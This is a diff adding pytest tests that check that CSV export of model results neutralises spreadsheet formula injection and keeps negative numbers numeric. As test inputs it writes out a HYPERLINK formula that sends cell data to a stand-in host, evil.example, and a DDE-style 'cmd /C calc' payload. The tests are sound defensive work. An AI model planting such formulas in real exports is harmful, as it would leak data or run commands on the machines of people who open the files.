@@ -195,3 +195,22 @@ def test_markdown_with_no_results_says_so() -> None:
 )
 def test_human_params(n_params: int | None, expected: str) -> None:
     assert human_params(n_params) == expected
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_neutralises_text_a_spreadsheet_would_run_as_a_formula(start: str) -> None:
+    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
+    result = make_result(text=formula, label=f"{start}cmd|' /C calc'!A0")
+    result = result.model_copy(update={"prompt": f"{start}1+1"})
+    row = next(csv.DictReader(io.StringIO(to_csv([result]))))
+    assert row["text"] == "'" + formula
+    assert row["prompt"] == f"'{start}1+1"
+    assert row["pane_label"].startswith("'")
+    assert float(row["temperature"]) == result.sampling.temperature  # numbers stay numbers
+    assert json.loads(to_json([result]))["results"][0]["text"] == formula  # JSON keeps it as is
+
+
+def test_csv_keeps_negative_numbers_as_numbers() -> None:
+    result = make_result(run_stats=stats(mean_logprob=-0.75))
+    row = next(csv.DictReader(io.StringIO(to_csv([result]))))
+    assert row["mean_logprob"] == "-0.75"
